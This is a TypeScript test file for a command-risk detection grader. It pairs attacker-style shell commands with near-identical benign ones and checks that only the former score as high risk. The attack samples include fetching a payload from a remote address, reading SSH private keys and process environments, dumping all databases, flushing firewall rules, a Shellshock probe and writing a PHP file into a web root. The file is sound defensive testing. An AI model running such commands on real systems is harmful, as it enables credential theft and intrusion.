import { describe, expect, test } from 'vitest';
import { ALERT_RISK, gradeTree, toTrees } from '../../common/detection';
import { makeTreeEvents, type WayIn } from './make_tree_events';

/** A clause inside a sign: an attack at or above a risk that needs it, and the nearest work that it must leave below one. */
interface ClauseCase {
  readonly clause: string;
  readonly attack: readonly [WayIn, string];
  readonly atLeast: number;
  readonly benign: readonly [WayIn, string];
  readonly below: number;
}

const GRAVE = 73;

const CASES: readonly ClauseCase[] = (
  [
    [
      'an address is fetched from, unless a health page is asked by who waits only so long',
      ['eval', 'curl -s http://203.0.113.80/kit'],
      GRAVE,
      ['eval', 'curl -sf -m 2 http://203.0.113.80/health; df -P /'],
      ALERT_RISK,
    ],
    [
      'a health page is asked for its code alone',
      ['sh', 'curl -s http://203.0.113.80/up/x.bin'],
      GRAVE,
      ['sh', "curl -s -o /dev/null -w '%{http_code}' http://203.0.113.80/status"],
      ALERT_RISK,
    ],
    [
      'a console is asked for, wherever it is',
      ['sh', 'curl -s -m 2 http://10.20.0.5:8080/manager/html'],
      GRAVE,
      ['sh', "curl -s -m 2 'http://10.20.0.5:8080/status'"],
      ALERT_RISK,
    ],
    [
      'a file is fetched by its URL',
      ['argv', 'curl file:///etc/passwd'],
      GRAVE,
      ['argv', 'curl https://api.example.org/version'],
      ALERT_RISK,
    ],
    [
      'redis is asked where it writes',
      ['sh', 'redis-cli config get dir'],
      GRAVE,
      ['sh', 'redis-cli config get maxmemory'],
      ALERT_RISK,
    ],
    [
      'a database is asked who one is',
      ['argv', "mysql -uroot -proot -e 'select user()'"],
      GRAVE,
      ['argv', "mysql -uapp -papp app -e 'select version()'"],
      ALERT_RISK,
    ],
    [
      'a store of settings is read as a whole',
      ['sh', 'etcdctl get / --prefix'],
      GRAVE,
      ['sh', 'etcdctl endpoint health'],
      ALERT_RISK,
    ],
    [
      'a package comes past every list',
      ['sh', 'pip install --target /tmp/p http://203.0.113.5/p.tar.gz'],
      GRAVE,
      ['sh', 'pip install -r requirements.txt'],
      ALERT_RISK,
    ],
    [
      'a folder of the machine is listed',
      ['argv', 'ls /tmp'],
      GRAVE,
      ['argv', 'ls /srv/exports'],
      ALERT_RISK,
    ],
    [
      'a folder is listed for eyes',
      ['sh', 'ls /opt'],
      GRAVE,
      ['sh', 'ls /srv/backups | tail -7'],
      ALERT_RISK,
    ],
    [
      'a machine asks itself often',
      ['sh', 'ping -c 10 127.0.0.1'],
      GRAVE,
      ['sh', 'ping -c 1 -W 1 127.0.0.1 2>&1'],
      ALERT_RISK,
    ],
    [
      'a machine asks itself after the page has asked another',
      ['sh', 'ping -c 1 192.0.2.80; ping -c 3 127.0.0.1'],
      GRAVE,
      ['sh', 'ping -c 1 192.0.2.80; ping -c 1 192.0.2.81'],
      ALERT_RISK,
    ],
    [
      'a wait is told',
      ['sh', 'sleep 5 && echo ok'],
      GRAVE,
      ['sh', "sleep 5 && php '/srv/app/notify.php'"],
      ALERT_RISK,
    ],
    [
      'a number is converted',
      ['sh', 'printf "%d" 0x2f61'],
      GRAVE,
      ['sh', 'printf "%s" done'],
      GRAVE,
    ],
    [
      'a word is written to be found',
      ['sh', 'echo vulnerable'],
      GRAVE,
      ['sh', 'echo ok'],
      ALERT_RISK,
    ],
    [
      'a function has no name',
      ['sh', `env x='() { :;}; echo vulnerable' bash -c "echo test"`],
      GRAVE,
      ['sh', "f() { :; }; f; date '+%F'"],
      ALERT_RISK,
    ],
    [
      'words are of Windows',
      ['sh', 'whoami /priv'],
      GRAVE,
      ['sh', 'whois example.org'],
      ALERT_RISK,
    ],
    ['a drive is of Windows', ['sh', 'dir c:\\\\'], GRAVE, ['sh', "test -d 'c/d'"], ALERT_RISK],
    [
      'a sum is of Windows',
      ['sh', 'set /a 99*99'],
      GRAVE,
      ['sh', "set -e; date '+%F'"],
      ALERT_RISK,
    ],
    [
      'a shell is started by another program',
      ['argv', 'env /bin/sh'],
      GRAVE,
      ['argv', 'env LC_ALL=C date'],
      ALERT_RISK,
    ],
    [
      'a shell keeps its rights',
      ['argv', '/bin/bash -p'],
      GRAVE,
      ['argv', '/bin/bash /srv/app/bin/report.sh'],
      ALERT_RISK,
    ],
    [
      'all routes are asked for',
      ['sh', 'ip route'],
      ALERT_RISK,
      ['sh', 'ip route show default'],
      ALERT_RISK,
    ],
    [
      'an account of a server is looked up',
      ['argv', 'id www-data'],
      ALERT_RISK,
      ['argv', 'id client17'],
      ALERT_RISK,
    ],
    [
      'the addresses of the machine are asked for',
      ['argv', 'hostname -I'],
      ALERT_RISK,
      ['sh', "hostname -I | awk '{print $1}'"],
      ALERT_RISK,
    ],
    [
      'the distribution is asked for by name',
      ['argv', 'lsb_release -a'],
      ALERT_RISK,
      ['sh', '/usr/bin/lsb_release -a 2>/dev/null'],
      ALERT_RISK,
    ],
    ['what is mounted is asked', ['sh', 'mount'], ALERT_RISK, ['sh', '/bin/mount'], ALERT_RISK],
    [
      'a folder is mounted a second time',
      ['sh', 'mount -o bind /proc /mnt'],
      GRAVE,
      ['sh', 'mount | grep /srv/nfs'],
      ALERT_RISK,
    ],
    ['who is here', ['argv', 'who'], ALERT_RISK, ['sh', '/usr/bin/who'], ALERT_RISK],
    [
      'who was here',
      ['argv', 'last -n 20'],
      ALERT_RISK,
      ['argv', 'last -n 5 client17'],
      ALERT_RISK,
    ],
    [
      'what the machine is called',
      ['argv', 'hostnamectl'],
      ALERT_RISK,
      ['argv', 'hostnamectl hostname'],
      ALERT_RISK,
    ],
    [
      'what the kernel said',
      ['sh', 'dmesg | tail -20'],
      ALERT_RISK,
      ['sh', '/bin/dmesg'],
      ALERT_RISK,
    ],
    ['all packages', ['sh', 'dpkg -l'], ALERT_RISK, ['sh', 'dpkg -l imagemagick'], ALERT_RISK],
    [
      'all rules of the firewall',
      ['sh', 'iptables -L'],
      ALERT_RISK,
      ['sh', 'sudo iptables -L INPUT -n'],
      ALERT_RISK,
    ],
    [
      'rules of the firewall are changed',
      ['sh', 'sudo iptables -F'],
      GRAVE,
      ['sh', 'sudo iptables -A INPUT -s 203.0.113.9 -j DROP'],
      ALERT_RISK,
    ],
    [
      'processes are drawn as a tree',
      ['sh', 'ps -eo user,pid,cmd --forest | head -50'],
      GRAVE,
      ['sh', 'ps -eo pid,cmd | head -5'],
      ALERT_RISK,
    ],
    [
      'what runs in a cluster',
      ['argv', 'kubectl get pods'],
      ALERT_RISK,
      ['argv', 'kubectl rollout status deploy/app'],
      ALERT_RISK,
    ],
    [
      'hosts of a network are looked for',
      ['argv', 'nmap -sn 10.0.0.0/24'],
      ALERT_RISK,
      ['sh', 'nmap -sn 10.0.0.0/24 -oX -'],
      ALERT_RISK,
    ],
    [
      'what root keeps is read with its leave',
      ['sh', 'sudo cat /root/notes'],
      GRAVE,
      ['sh', 'sudo cat /etc/hostapd/hostapd.conf'],
      ALERT_RISK,
    ],
    [
      'what a shell does at a login',
      ['sh', 'cat ~/.profile'],
      GRAVE,
      ['sh', "cat '/srv/app/profile'"],
      ALERT_RISK,
    ],
    [
      'names of the network are read',
      ['sh', 'cat /etc/resolv.conf'],
      GRAVE,
      ['sh', 'cat /etc/resolv.conf | grep nameserver'],
      ALERT_RISK,
    ],
    [
      'what processes were started with',
      ['sh', `cat /proc/*/environ | tr '\\0' '\\n'`],
      GRAVE,
      ['sh', `cat /proc/4711/status | grep -c VmRSS`],
      ALERT_RISK,
    ],
    [
      'accounts are changed',
      ['sh', 'passwd root'],
      GRAVE,
      ['sh', 'passwd -S client17'],
      ALERT_RISK,
    ],
    [
      'a page is written by version control',
      ['argv', 'git log --output=/var/www/html/a.php'],
      GRAVE,
      ['argv', 'git archive --output=/srv/app/a.zip main'],
      ALERT_RISK,
    ],
    [
      'a program is put together',
      ['sh', 'cat a b > /tmp/k.bin'],
      GRAVE,
      ['sh', "cat '/srv/up/1' '/srv/up/2' > '/srv/up/whole.bin'"],
      ALERT_RISK,
    ],
    [
      'what was decoded is kept',
      ['sh', 'base64 -d a.b64 > k'],
      ALERT_RISK,
      ['sh', 'base64 -d a.b64 > a.pdf'],
      ALERT_RISK,
    ],
    [
      'a source is compiled where one stands',
      ['argv', 'gcc e.c -o e'],
      GRAVE,
      ['argv', 'gcc -c -o /srv/judge/17/a.o /srv/judge/17/a.c'],
      ALERT_RISK,
    ],
    [
      'all databases are shown',
      ['argv', 'mysqldump -uroot -psecret --all-databases'],
      GRAVE,
      ['argv', 'pg_dump -h db app'],
      ALERT_RISK,
    ],
    [
      'a pattern of files is gone through',
      ['sh', 'for f in /home/*/.ssh/id_rsa; do cat $f; done'],
      GRAVE,
      ['sh', 'for f in /srv/app/cache/*.tmp; do rm -f $f; done'],
      ALERT_RISK,
    ],
    ['where packets go', ['argv', 'netstat -rn'], ALERT_RISK, ['argv', 'netstat -s'], ALERT_RISK],
    [
      'all services are asked about',
      ['argv', 'service --status-all'],
      ALERT_RISK,
      ['argv', 'service nginx status'],
      ALERT_RISK,
    ],
    [
      'groups of a server’s account',
      ['argv', 'groups www-data'],
      ALERT_RISK,
      ['argv', 'groups client17'],
      ALERT_RISK,
    ],
    [
      'people are counted by a script',
      ['argv', 'who'],
      ALERT_RISK,
      ['eval', 'who | wc -l; free -m; cat /proc/loadavg'],
      ALERT_RISK,
    ],
    [
      'a database is dumped beside',
      ['argv', 'mongodump'],
      ALERT_RISK,
      ['argv', 'mongodump --archive=/srv/backups/app.gz --gzip'],
      ALERT_RISK,
    ],
  ] as const
).map(([clause, attack, atLeast, benign, below]) => ({ clause, attack, atLeast, benign, below }));

const toRisk = ([way, command]: readonly [WayIn, string]): number =>
  Math.max(...toTrees(makeTreeEvents(way, command, command)).map((tree) => gradeTree(tree).risk));

describe('clauses', () => {
  test.each(CASES)('$clause: $attack', ({ attack, atLeast }) => {
    expect(toRisk(attack)).toBeGreaterThanOrEqual(atLeast);
  });

  test.each(CASES)('$clause, not $benign', ({ benign, below }) => {
    expect(toRisk(benign)).toBeLessThan(below);
  });
});
